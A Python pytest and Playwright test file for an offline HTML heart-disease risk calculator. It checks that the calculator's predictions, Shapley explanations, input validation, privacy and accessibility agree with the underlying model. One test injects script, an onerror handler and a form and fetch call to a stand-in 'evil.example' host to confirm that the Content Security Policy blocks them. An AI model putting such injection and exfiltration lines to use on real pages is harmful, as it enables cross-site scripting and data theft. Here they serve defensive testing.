"""The calculator's file in Chromium, offline: it answers as the bundle does, and a reader can work
with it.
"""

import json
import re
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from playwright.sync_api import expect

from heart.bundle import load_bundle
from heart.bundle.calculator import export_calculator
from heart.bundle.calculator.content import TOLERANCE
from heart.data import SHIPPED, load_shipped
from heart.errors import PatientError
from heart.evaluation.calibration import to_logits
from heart.explain.why import explain_patient
from heart.paths import SHIPPED_BUNDLE
from heart.schema import FEATURES
from heart.scoring.patient import predict_patient
from tests.support.accessibility import violations_of
from tests.support.networks import ISOTONIC, NETWORKS, PLATT, TEMPERATURE, untrained

ANSWERS = """rows => JSON.stringify(JSON.parse(rows).map(texts => {
  const values = Object.fromEntries(
    model.features.map(feature => [feature.name, parseValue(feature, texts[feature.name])]));
  const { probability, range, positive, known, decided, near } = predict(values);
  const warnings = [...fields].map(([name, field]) => {
    const problem = problemOf(field.feature, values[name]);
    return problem && warningOf(field, values[name], problem);
  });
  return { probability, range, positive, known, decided, near, warnings: warnings.filter(Boolean) };
}))"""
"""Of the page's own functions, for patients as texts by feature; as JSON, because Playwright takes
longer to hand over so many values than the page to answer.
"""


def answer_all(page, texts):
    return json.loads(page.evaluate(ANSWERS, json.dumps(texts)))


WHY = """values => {
  const work = explain(values);
  let step = work.next();
  while (!step.done) step = work.next();
  const { base, shares } = step.value;
  const pairs = shares.map(({ feature, share, range }) => [feature.name, [share, range]]);
  return [base, Object.fromEntries(pairs)];
}"""

REFUSED = """rows => rows.map(([name, text]) =>
  parseValue(model.features.find(feature => feature.name === name), text) === undefined)"""


@pytest.fixture(scope="module")
def context(browser):
    """A profile without a network; closed with its pages."""
    context = browser.new_context(offline=True, reduced_motion="reduce")
    context.set_default_timeout(20_000)
    yield context
    context.close()


@pytest.fixture(scope="module")
def open_calculator(context, tmp_path_factory):
    """Opens the file of a bundle; every test fails that makes a request, or that the policy or an
    error stops.
    """
    page, faults = context.new_page(), []
    page.on("request", lambda request: faults.append(request.url))
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("console", lambda message: faults.append(message.text))
    file = tmp_path_factory.mktemp("calculator") / "calculator.html"

    def open_file(bundle=None, content=None):
        if bundle is not None or content is not None:
            file.write_bytes(content or export_calculator(bundle))
        faults.clear()
        page.goto(file.as_uri())
        assert faults == [file.as_uri()]
        return page

    yield open_file
    assert set(faults) == {file.as_uri()}


@pytest.fixture(scope="module")
def shipped():
    return load_bundle(SHIPPED_BUNDLE)


@pytest.fixture(scope="module")
def cleveland():
    return load_shipped("cleveland")


@pytest.fixture(scope="module")
def small(shipped, cleveland):
    return untrained(shipped, cleveland.features, members=2, hidden=(8,))


@pytest.fixture(scope="module")
def everybody():
    """All 920 patients as a frame, and as what somebody would type."""
    frame = load_shipped("+".join(SHIPPED)).features
    patients = frame.astype(object).where(frame.notna(), None).to_dict("records")
    texts = [
        {name: "" if value is None else str(value) for name, value in patient.items()}
        for patient in patients
    ]
    return frame, patients, texts


def assert_same(page, bundle, everybody):
    frame, _, texts = everybody
    found = np.array([answer["probability"] for answer in answer_all(page, texts)])
    expected = bundle.predict_proba(frame)
    assert np.ptp(expected) > 0.005
    assert np.abs(found - expected).max() < TOLERANCE


def test_shipped_model_says_the_same_of_all_920_patients(open_calculator, shipped, everybody):
    frame, patients, texts = everybody
    answers = answer_all(open_calculator(shipped), texts)
    found = np.array([answer["probability"] for answer in answers])
    assert np.abs(found - shipped.predict_proba(frame)).max() < TOLERANCE
    for answer, patient in list(zip(answers, patients, strict=True))[::10]:
        expected = predict_patient(shipped, patient)
        assert answer["range"] == pytest.approx([expected.low, expected.high], abs=TOLERANCE)
        assert answer["positive"] == expected.is_positive
        assert answer["known"] == expected.known
        assert answer["decided"] == (expected.label is not None)
        assert (answer["near"] is None) == (expected.why_near is None)
        assert answer["warnings"] == [warning.message for warning in expected.warnings]


KINDS = NETWORKS | {
    "the lesson's": {
        "categories": "codes",
        "missing_flags": False,
        "linear_path": False,
        "masking": 0.0,
        "members": 1,
    },
    "linear, codes as numbers": {"hidden": (), "categories": "codes"},
    "of few features": {"features": [f for f in FEATURES if f.name in ("age", "cp", "slope")]},
    "of numbers only": {"features": [f for f in FEATURES if f.encoding == "scale"]},
    "of categories only": {"features": [f for f in FEATURES if f.encoding == "label"]},
}


@pytest.mark.parametrize("changes", KINDS.values(), ids=KINDS)
def test_every_network_answers_the_same(open_calculator, shipped, cleveland, everybody, changes):
    changes = {"members": 3, "hidden": (8,)} | changes
    bundle = untrained(shipped, cleveland.features, **changes)
    assert_same(open_calculator(bundle), bundle, everybody)


@pytest.mark.parametrize("absent", [["ca", "thal"], ["chol", "sex"]])
def test_what_training_never_had_is_not_known_in_both(
    open_calculator, shipped, cleveland, everybody, absent
):
    frame = cleveland.features
    nobody = {name: frame[name].where(frame[name].isna()) for name in absent}
    bundle = untrained(shipped, frame.assign(**nobody), members=2, hidden=(8,))
    page = open_calculator(bundle)
    assert_same(page, bundle, everybody)
    _, patients, texts = everybody
    (found,) = answer_all(page, texts[:1])
    assert found["warnings"] == [w.message for w in predict_patient(bundle, patients[0]).warnings]
    assert sum("did not occur in training" in text for text in found["warnings"]) == 2
    assert found["known"] == predict_patient(bundle, patients[0]).known == 11


@pytest.mark.parametrize("recalibration", [PLATT, TEMPERATURE, ISOTONIC], ids=lambda r: r.method)
def test_recalibration_is_inside(open_calculator, small, everybody, recalibration):
    bundle = replace(small, recalibration=recalibration)
    assert_same(open_calculator(bundle), bundle, everybody)


TRIED = ["0", "-1", "1", "1.0", "4", "4.5", "17", "18", "50", "110", "110.1", "250", "300", "1001"]
TRIED += ["-5", "-5.1", "10", "1e2", "1e999", "nan", "inf", "0x10", "1_0", "１０", "+3", ".5", "5."]
TRIED += ["normal", "fixed", "NORMAL", "--1", "1-1", "1e", "abc", "<b>", "6.2 mmol/l", "233 mg/dl"]


def test_impossible_values_are_refused_in_both_at_the_same_field(open_calculator, shipped):
    pairs = [(f.name, text) for f in FEATURES for text in TRIED]
    expected = []
    for name, text in pairs:
        try:
            predict_patient(shipped, {"age": 61, name: text})
            expected.append(None)
        except PatientError as error:
            expected.append(error.feature)
    found = open_calculator(shipped).evaluate(REFUSED, pairs)
    wrong = [
        pair for pair, a, b in zip(pairs, found, expected, strict=True) if a != (b is not None)
    ]
    assert wrong == []
    assert {name for name in expected if name} == {f.name for f in FEATURES}


def shapley(bundle, patient):
    """By the definition, over all sets of the 13 features, those not in a set as not known."""
    n = len(FEATURES)
    sets = np.arange(2**n)
    frame = pd.DataFrame(
        {
            f.name: pd.Series([None, patient[f.name]], dtype=object)
            .take((sets >> i) & 1)
            .to_numpy()
            for i, f in enumerate(FEATURES)
        }
    )
    worth = to_logits(bundle.predict_proba(frame))
    sizes = np.array([s.bit_count() for s in range(2**n)])
    orders = np.array(
        [1 / (n * np.prod([(n - 1 - i) / (i + 1) for i in range(s)])) for s in range(n)]
    )
    shares = {}
    for i, f in enumerate(FEATURES):
        without = sets[(sets >> i) & 1 == 0]
        gains = worth[without | (1 << i)] - worth[without]
        shares[f.name] = float((orders[sizes[without]] * gains).sum())
    return float(worth[0]), shares


@pytest.mark.parametrize("kind", ["shipped", "three hidden layers, no direct path", "isotonic"])
def test_why_is_the_shapley_value_by_its_definition(open_calculator, shipped, everybody, kind):
    bundle = shipped
    if kind == "isotonic":
        bundle = replace(shipped, recalibration=ISOTONIC)
    elif kind in NETWORKS:
        bundle = untrained(shipped, everybody[0], **{"members": 2} | NETWORKS[kind])
    page = open_calculator(bundle)
    for place in (0, 400):  # all known; a Hungarian, of whom some is not
        patient = everybody[1][place]
        base, shares = shapley(bundle, patient)
        found_base, found = page.evaluate(WHY, patient)
        known = {f.name for f in FEATURES if patient[f.name] is not None}
        assert found.keys() == known
        assert all(shares[name] == 0 for name in shares.keys() - known)
        assert found_base == pytest.approx(base, abs=1e-5)
        assert [found[name][0] for name in known] == pytest.approx(
            [shares[name] for name in known], abs=1e-5
        )
        answer = to_logits(bundle.predict_proba(pd.DataFrame([patient])))[0]
        assert base + sum(share for share, _ in found.values()) == pytest.approx(answer, abs=1e-5)
        for step in explain_patient(bundle, patient).steps:  # the Patient page's
            if step.is_used:
                ends = pytest.approx([step.low, step.high], abs=1e-5)
                assert found[step.feature.name][1] == ends


# ---- what a reader does


def fill_in(page, **texts):
    for name, text in texts.items():
        page.locator(f"#field-{name}").fill(text)


def calculate(page):
    page.get_by_role("button", name="Calculate").click()


@pytest.fixture
def page(open_calculator, shipped):
    return open_calculator(shipped)


def test_comma_is_a_point_and_what_was_typed_stays(page, shipped):
    fill_in(page, age="61", oldpeak="0,5", thalach="150")
    page.get_by_label("Chest pain", exact=True).select_option("asymptomatic")
    page.keyboard.press("Enter")
    calculate(page)
    expected = predict_patient(shipped, {"age": 61, "oldpeak": 0.5, "cp": 4, "thalach": 150})
    expect(page.locator(".figure")).to_contain_text(f"{100 * expected.probability:.0f}\u00a0%")
    expect(page.locator("#field-oldpeak")).to_have_value("0,5")
    expect(page.get_by_role("status")).to_contain_text("probability of heart disease now. Decision")
    expect(page.get_by_role("img")).to_have_accessible_name(
        f"100 squares, {expected.of_100} filled for patients with heart disease,"
        f" {100 - expected.of_100} outlined"
    )
    assert page.locator(".hundred .filled").count() == expected.of_100
    expect(page.get_by_text("Not known (9 of 13)")).to_be_visible()
    expect(page.get_by_role("table")).to_contain_text("Chest pain: asymptomatic")
    expect(page.get_by_role("row")).to_have_count(1 + 1 + 4)  # the head, nothing known, four


def test_age_alone_has_a_probability_and_no_decision(page, shipped):
    fill_in(page, age="77")
    calculate(page)
    expected = predict_patient(shipped, {"age": 77})
    expect(page.locator(".figure")).to_contain_text(f"{100 * expected.probability:.0f}\u00a0%")
    expect(page.locator(".decision")).to_have_text(expected.why_undecided)
    expect(page.get_by_text("followed up")).to_have_count(0)
    near = {"age": 60, "sex": 1, "cp": 2, "chol": 250}
    texts = [{f.name: str(near.get(f.name, "")) for f in FEATURES}]
    assert answer_all(page, texts)[0]["near"] == (
        "near_divided" if predict_patient(shipped, near).why_near else None
    )


def test_every_wrong_field_is_named_at_the_field_and_nothing_is_lost(page):
    fill_in(page, age="610", chol="6.2", thalach="abc", trestbps="120")
    calculate(page)
    fields = ["Age", "Serum cholesterol", "Maximum heart rate"]
    expect(page.get_by_role("status")).to_have_text(
        f"Not calculated. Please look at: {', '.join(fields)}."
    )
    for label in fields:
        expect(page.get_by_label(label, exact=True)).to_have_attribute("aria-invalid", "true")
    age = page.get_by_label("Age", exact=True)
    expect(age).to_be_focused()
    expect(age).to_have_accessible_description(
        re.compile("Expected 18 to 110 years, but found “610”")
    )
    expect(page.locator("#field-chol-error")).to_contain_text(
        "If it is in mmol/l, choose that unit"
    )
    expect(page.locator("#field-trestbps")).to_have_value("120")
    expect(page.locator("#field-thalach")).to_have_value("abc")
    expect(page.locator(".figure")).to_have_count(0)
    fill_in(page, age="61", chol="", thalach="")
    page.keyboard.press("Tab")
    expect(page.locator(".figure")).to_be_visible()
    expect(page.locator("[aria-invalid=true]")).to_have_count(0)


def test_probability_at_the_threshold_is_disease(page):
    fill_in(page, age="61")
    at_it = """() => {
      const { values } = readForm();
      model.threshold = predict(values).probability;
      return predict(values).positive;
    }"""
    assert page.evaluate(at_it) is True


TWICE = """async () => {
  let waiting = 0;
  const later = setTimeout;
  window.setTimeout = work => { waiting++; later(() => { waiting--; work(); }); };
  calculate(true);  // all is known: the longest why
  byId('form').reset();
  byId('field-age').value = '61';
  calculate(true);
  const isDone = () => !waiting && byId('why').querySelector('table');
  while (!isDone()) await new Promise(resolve => later(resolve, 5));
  return byId('why').querySelectorAll('tbody tr').length;
}"""


def test_older_why_never_takes_the_place_of_a_newer_one(page):
    fill_everything(page)
    assert page.evaluate(TWICE) == 2  # nothing known, age


def test_answer_is_never_beside_another_form_without_a_word(page):
    fill_in(page, age="40")
    calculate(page)
    before = page.locator(".figure").inner_text()
    page.locator("#field-age").press_sequentially("5")
    expect(page.get_by_text("The form has changed since")).to_be_visible()
    fill_in(page, age="75")
    page.keyboard.press("Tab")
    expect(page.get_by_text("The form has changed since")).to_be_hidden()
    assert page.locator(".figure").inner_text() != before


def test_cholesterol_may_be_in_mmol_per_litre_and_changes_nothing_by_itself(page, shipped):
    fill_in(page, chol="233", age="61")
    calculate(page)
    before = page.evaluate("predict(readForm().values).probability")
    unit = page.get_by_label("Serum cholesterol: unit")
    unit.select_option("mmol/l")
    expect(page.locator("#field-chol")).to_have_value("6.03")
    expect(page.locator("#field-chol-range")).to_have_text("1.3 to 25.85 mmol/l")
    expect(page.get_by_label("Fasting blood sugar above 6.7 mmol/l", exact=True)).to_be_visible()
    expect(page.get_by_role("table")).to_contain_text("Serum cholesterol: 6.03 mmol/l")
    assert page.evaluate("predict(readForm().values).probability") == before
    fill_in(page, chol="6,2")
    calculate(page)
    expected = predict_patient(shipped, {"age": 61, "chol": "6.2 mmol/l"}).probability
    found = page.evaluate("predict(readForm().values).probability")
    assert found == pytest.approx(expected, abs=TOLERANCE)
    fill_in(page, chol="2.3")
    calculate(page)
    warnings = predict_patient(shipped, {"age": 61, "chol": "2.3 mmol/l"}, units="mmol/l").warnings
    (expected,) = [warning.message for warning in warnings if warning.problem == "below"]
    expect(page.locator(".warning")).to_have_text(expected)


def test_clearing_leaves_nothing_of_the_patient(page):
    fill_in(page, age="61", chol="2000")
    page.get_by_label("Serum cholesterol: unit").select_option("mmol/l")
    calculate(page)
    page.get_by_role("button", name="Clear all fields").click()
    typed = page.evaluate(
        "[...document.querySelectorAll('input, select')].map(x => x.value).join('')"
    )
    assert typed == "0"  # the first unit
    expect(page.locator("#answer")).to_be_empty()
    expect(page.locator("#field-chol-error")).to_be_empty()
    calculate(page)
    expect(page.get_by_role("status")).to_contain_text("nothing is known")


def test_nothing_is_stored_and_nothing_comes_back(page):
    fill_in(page, age="61")
    calculate(page)
    stored = page.evaluate(
        "[localStorage.length, sessionStorage.length, document.cookie, location.search]"
    )
    assert stored == [0, 0, "", ""]
    assert page.evaluate("indexedDB.databases().then(all => all.length)") == 0
    page.reload()
    expect(page.locator("#field-age")).to_have_value("")


def test_policy_stops_what_is_not_the_files_own(browser, shipped, tmp_path):
    """As if somebody's text had become markup."""
    content = export_calculator(shipped).replace(
        b"</main>",
        b'<script>window.ran = 1</script><img src="x.png" onerror="window.ran = 2">'
        b'<form action="https://evil.example"><button id="out">go</button></form></main>',
    )
    (tmp_path / "x.html").write_bytes(content)
    page = browser.new_page()
    stopped, asked = [], []
    page.on("console", lambda message: stopped.append(message.text))
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.goto((tmp_path / "x.html").as_uri())
    page.evaluate("document.getElementById('out').click()")
    page.evaluate("fetch('https://evil.example/?' + 1).catch(() => 0)")
    assert page.evaluate("window.ran") is None
    assert len(asked) == 1
    assert len([text for text in stopped if "Content Security Policy" in text]) >= 4
    page.close()


def test_file_that_was_damaged_gives_no_answer(open_calculator, shipped):
    content = export_calculator(shipped).decode()
    model = json.loads(re.search(r'id="model">(.*?)</script>', content)[1])
    weights = model["network"]["weights"]
    place = 400  # of the first weights: age's
    model["network"]["weights"] = weights[:place] + "QUFBQUFBQUFBQUFB" + weights[place + 16 :]
    broken = re.sub(
        r'(id="model">)(.*?)(</script>)', lambda m: m[1] + json.dumps(model) + m[3], content
    )
    page = open_calculator(content=broken.encode())
    expect(page.get_by_text("This file answers otherwise than the model")).to_be_visible()
    expect(page.get_by_role("button", name="Calculate")).to_have_count(0)


def test_model_that_never_learnt_what_unknown_means_shows_no_why(
    open_calculator, shipped, cleveland
):
    lesson = untrained(shipped, cleveland.features, members=1, hidden=(8,), masking=0.0)
    page = open_calculator(lesson)
    fill_in(page, age="61")
    calculate(page)
    expect(page.get_by_text("Why: not shown.")).to_be_visible()
    expect(page.get_by_text("not trained with values hidden at random: without")).to_be_visible()
    expect(page.get_by_text("members say")).to_have_count(0)
    page.wait_for_timeout(50)
    expect(page.get_by_role("table")).to_have_count(0)


FULL = {"age": "20", "trestbps": "250", "chol": "700", "thalach": "220", "oldpeak": "8"}
"""All below or above everybody in training: the longest answer."""

CODES = {"sex": "1", "cp": "4", "fbs": "1", "restecg": "2", "exang": "1", "slope": "2"}
CODES |= {"ca": "3", "thal": "reversible"}


def fill_everything(page):
    fill_in(page, **FULL)
    for name, code in CODES.items():
        page.locator(f"#field-{name}").select_option(code)
    calculate(page)
    expect(page.get_by_role("row")).to_have_count(15)


def test_longest_answer_with_its_why_prints_on_one_page(page):
    fill_everything(page)
    expect(page.locator(".warning")).to_have_count(5)
    assert page.pdf(prefer_css_page_size=True).count(b"/Type /Page\n") == 1
    page.emulate_media(media="print")
    expect(page.locator("#entered")).to_contain_text("Serum cholesterol700 mg/dl")
    expect(page.get_by_role("button", name="Calculate")).to_be_hidden()
    page.emulate_media(media="screen")


@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
def test_reader_with_a_phone_or_a_screen_reader_can_use_it(page, width, scheme):
    page.set_viewport_size({"width": width, "height": 844})
    page.emulate_media(color_scheme=scheme)
    fill_in(page, age="610")
    calculate(page)
    assert violations_of(page) == []
    fill_everything(page)
    assert violations_of(page) == []
    fits = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
    assert page.evaluate(fits)
    assert 0 <= page.locator(".figure").bounding_box()["y"] < 844  # the answer came into view
